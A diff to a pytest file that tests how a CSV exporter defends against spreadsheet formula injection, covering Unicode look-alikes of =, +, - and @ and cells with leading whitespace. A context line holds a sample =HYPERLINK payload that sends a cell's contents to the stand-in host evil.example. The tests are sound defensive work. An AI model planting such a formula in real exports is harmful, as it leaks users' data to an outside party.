@@ -5,6 +5,8 @@ from __future__ import annotations
 import csv
 import io
 import json
+import sys
+import unicodedata
 from pathlib import Path
 
 import pytest
@@ -32,6 +34,37 @@ HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")'
 )
 def test_formula_like_text_cells_get_a_leading_quote(text: str, cell: str) -> None:
     assert csv_text(text) == cell
+
+
+# Every character a spreadsheet may read as the start of a formula: the OWASP list, and each
+# character whose compatibility form (NFKC) starts with one of = + - @ (full-width, small, super-
+# and subscript forms).
+FORMULA_STARTS = "=+-@\t\r\n" + "⁺⁼₊₌⩵⩶﬩﹢﹣﹦﹫＋－＝＠"
+LEADING = ["", " ", "\u00a0", "  \u00a0", "\u3000", "\u2007\u202f", "\u00a0" * 40]
+
+
+def test_the_formula_starts_are_every_character_that_normalises_to_one() -> None:
+    normalised = {chr(c) for c in range(sys.maxunicode + 1) if unicodedata.normalize("NFKC", chr(c))[:1] in "=+-@"}
+    assert normalised | set("\t\r\n") == set(FORMULA_STARTS)
+
+
+@pytest.mark.parametrize("leading", LEADING, ids=[ascii(x) for x in LEADING])
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=[f"U+{ord(c):04X}" for c in FORMULA_STARTS])
+def test_every_formula_start_gets_a_quote_after_any_leading_space(start: str, leading: str) -> None:
+    text = leading + start + "HYPERLINK(1)"
+    if start in "\t\r\n" and leading:
+        assert csv_text(text) == text  # a space starts the cell: nothing for a spreadsheet to run
+    else:
+        assert csv_text(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["≠ 3", "a = b", "1 - 2", "\u00a8=1", "‐1 (a hyphen)", "−1 (a minus sign)", " "])
+def test_text_that_cannot_start_a_formula_stays_as_it_is(text: str) -> None:
+    assert csv_text(text) == text
+
+
+def test_a_combining_mark_after_the_equals_sign_does_not_hide_it() -> None:
+    assert csv_text(" =\u0338SUM(A1)") == "' =\u0338SUM(A1)"  # NFKC makes "=" and the mark one "≠"
 
 
 @pytest.mark.parametrize(
